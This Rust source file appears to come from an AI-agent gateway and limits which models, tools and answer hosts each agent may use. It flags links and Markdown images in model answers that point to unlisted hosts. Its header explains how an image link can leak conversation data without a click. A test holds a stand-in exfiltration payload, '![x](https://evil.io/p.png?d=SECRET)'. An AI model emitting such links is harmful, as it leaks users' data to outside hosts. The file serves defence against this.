//! What agents may do: which models they may ask, which tools call, and which hosts their answers may point to.
//!
//! A link in an answer is how data leaves a conversation without anybody's click: a picture in Markdown is fetched by whatever
//! shows the answer, and its address can carry what the model has read. So addresses are held against a list of hosts, and
//! one with a query is told apart.

use std::collections::BTreeMap;
use std::sync::Arc;

use weir_types::wildcard_matches;

/// Bytes of a host's name, as DNS bounds them.
const HOST_BYTES_MAX: usize = 253;

/// Violations of one kind that are told of one span.
const TOLD_MAX: usize = 8;

/// What one agent may do. `None` allows everything; `*` in a name stands for any run of characters.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct AgentScope {
    /// Models that it may ask.
    pub models: Option<Vec<String>>,
    /// Tools that it may call.
    pub tools: Option<Vec<String>>,
    /// Hosts that its answers may name; `example.com` allows the hosts below it too.
    pub domains: Option<Vec<String>>,
    /// Whether a call for another model is refused. Tools and hosts are known only when the model has answered.
    pub blocks: bool,
}

impl AgentScope {
    /// Whether it allows everything.
    pub const fn is_open(&self) -> bool {
        self.models.is_none() && self.tools.is_none() && self.domains.is_none()
    }
}

/// The scopes of all agents.
#[derive(Debug, Clone, Default)]
pub struct Scopes {
    /// By the agent's name.
    pub named: BTreeMap<Arc<str>, AgentScope>,
    /// Of agents that are not named, and of calls without an agent.
    pub others: Option<AgentScope>,
}

/// What an agent did that it may not.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Violation {
    /// `model`, `tool` or `domain`.
    pub what: &'static str,
    /// The model, the tool or the host.
    pub name: String,
    /// What happened, as a sentence.
    pub summary: String,
}

impl Scopes {
    /// Whether no agent is bound to anything.
    pub fn is_empty(&self) -> bool {
        self.named.values().chain(&self.others).all(AgentScope::is_open)
    }

    /// What this agent may do.
    pub fn of(&self, agent: Option<&str>) -> Option<&AgentScope> {
        let named = agent.and_then(|agent| self.named.get(agent));
        named.or(self.others.as_ref()).filter(|scope| !scope.is_open())
    }
}

impl AgentScope {
    /// The violation of asking for this model.
    pub fn model(&self, agent: Option<&str>, model: &str) -> Option<Violation> {
        let is_outside = is_outside(self.models.as_deref(), model);
        is_outside.then(|| violation("model", model, format!("{} asked for the model {model}", who(agent))))
    }

    /// The violation of calling this tool.
    pub(crate) fn tool(&self, agent: Option<&str>, tool: &str) -> Option<Violation> {
        let is_outside = is_outside(self.tools.as_deref(), tool);
        is_outside.then(|| violation("tool", tool, format!("{} called the tool {tool}", who(agent))))
    }

    /// The violations of naming these hosts in an answer.
    pub(crate) fn answer(&self, agent: Option<&str>, text: &str) -> Vec<Violation> {
        let Some(domains) = &self.domains else { return Vec::new() };
        let mut all: Vec<Violation> = Vec::new();
        for link in links(text) {
            let is_known = domains.iter().any(|domain| is_below(&link.host, domain));
            if is_known || all.iter().any(|told| told.name == link.host) || all.len() >= TOLD_MAX {
                continue;
            }
            let what = if link.is_image { "a picture" } else { "a link" };
            let data = if link.has_query { " that carries data" } else { "" };
            let summary = format!("{} answered with {what} to {}{data}", who(agent), link.host);
            all.push(violation("domain", &link.host, summary));
        }
        all
    }
}

fn violation(what: &'static str, name: &str, did: String) -> Violation {
    Violation { what, name: name.to_owned(), summary: did + ", which it may not" }
}

fn who(agent: Option<&str>) -> String {
    agent.map_or_else(|| "a call without an agent".to_owned(), |agent| format!("agent {agent}"))
}

fn is_outside(list: Option<&[String]>, name: &str) -> bool {
    list.is_some_and(|list| !list.iter().any(|pattern| wildcard_matches(pattern, name)))
}

/// Whether a host is this domain or below it.
fn is_below(host: &str, domain: &str) -> bool {
    if domain.contains('*') {
        return wildcard_matches(&domain.to_ascii_lowercase(), host);
    }
    host.len() >= domain.len()
        && host.is_char_boundary(host.len() - domain.len())
        && host[host.len() - domain.len()..].eq_ignore_ascii_case(domain)
        && (host.len() == domain.len() || host.as_bytes()[host.len() - domain.len() - 1] == b'.')
}

struct Link {
    host: String,
    is_image: bool,
    has_query: bool,
}

/// The addresses in a text: those with a scheme, and Markdown's that leave it out (`//host`).
fn links(text: &str) -> Vec<Link> {
    let bytes = text.as_bytes();
    let mut links = Vec::new();
    for slashes in memchr::memmem::find_iter(bytes, b"//") {
        let has_scheme = slashes > 0 && bytes[slashes - 1] == b':';
        let is_bare = slashes > 0 && matches!(bytes[slashes - 1], b'(' | b'"' | b'\'' | b'<');
        if !has_scheme && !is_bare {
            continue;
        }
        let stops = |byte: &u8| byte.is_ascii_whitespace() || b")\"'<>\\`]".contains(byte);
        let address = &bytes[slashes + 2..];
        let length = address.iter().take(2 * HOST_BYTES_MAX).take_while(|byte| !stops(byte)).count();
        let address = &text[slashes + 2..slashes + 2 + text[slashes + 2..].floor_char_boundary(length)];
        let authority = &address[..address.find(['/', '?', '#']).unwrap_or(address.len())];
        let host = authority.rsplit('@').next().unwrap_or(authority);
        let host = host.split(':').next().unwrap_or(host).trim_end_matches('.').to_ascii_lowercase();
        if host.is_empty() || host.len() > HOST_BYTES_MAX || !host.contains('.') {
            continue;
        }
        let before = &text[text.floor_char_boundary(slashes.saturating_sub(8))..slashes];
        let label = before.rfind("](").map(|at| slashes - before.len() + at);
        let is_image = label.is_some_and(|end| is_image(text, end)) || before.contains("src=");
        links.push(Link { host, is_image, has_query: address.contains('?') });
    }
    links
}

/// Whether the label of Markdown that ends here is a picture's: `![…]`.
fn is_image(text: &str, label_end: usize) -> bool {
    let near = &text.as_bytes()[label_end.saturating_sub(HOST_BYTES_MAX)..label_end];
    memchr::memrchr(b'[', near).is_some_and(|open| open > 0 && near[open - 1] == b'!')
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scope() -> AgentScope {
        let list = |names: &[&str]| Some(names.iter().map(|name| (*name).to_owned()).collect());
        AgentScope {
            models: list(&["gpt-4o*"]),
            tools: list(&["search", "read_*"]),
            domains: list(&["example.com", "*.docs.io"]),
            blocks: false,
        }
    }

    #[test]
    fn what_is_on_the_list_may_be_done_and_nothing_else() {
        let scope = scope();
        assert_eq!(scope.model(Some("a"), "gpt-4o-mini"), None);
        assert_eq!(scope.tool(Some("a"), "read_file"), None);
        let violation = scope.tool(Some("billing"), "delete_user").unwrap();
        assert_eq!(violation.summary, "agent billing called the tool delete_user, which it may not");
        assert_eq!(
            scope.model(None, "o3").unwrap().summary,
            "a call without an agent asked for the model o3, which it may not"
        );
        assert_eq!(AgentScope::default().model(None, "o3"), None);
    }

    #[test]
    fn links_to_other_hosts_are_told_with_what_they_carry() {
        let told = |text: &str| -> Vec<String> {
            scope().answer(Some("a"), text).into_iter().map(|violation| violation.summary).collect()
        };
        assert!(
            told("see https://example.com/a and http://www.Example.com:8080/?q=1, a.docs.io, 1//2")
                .is_empty()
        );
        assert_eq!(
            told(
                "![x](https://evil.io/p.png?d=SECRET) and [y](https://evil.io) and <http://user@bad.example.com.evil.net>"
            ),
            [
                "agent a answered with a picture to evil.io that carries data, which it may not",
                "agent a answered with a link to bad.example.com.evil.net, which it may not",
            ]
        );
        assert_eq!(told("(//x.io/a)"), ["agent a answered with a link to x.io, which it may not"]);
        assert_eq!(told("https://notexample.com/é").len(), 1);
    }

    #[test]
    fn an_agent_without_a_scope_has_that_of_the_others() {
        let scopes = Scopes { named: [("a".into(), AgentScope::default())].into(), others: Some(scope()) };
        assert!(
            scopes.of(Some("a")).is_none() && scopes.of(Some("b")).is_some() && scopes.of(None).is_some()
        );
        assert!(!scopes.is_empty() && Scopes::default().is_empty());
    }
}
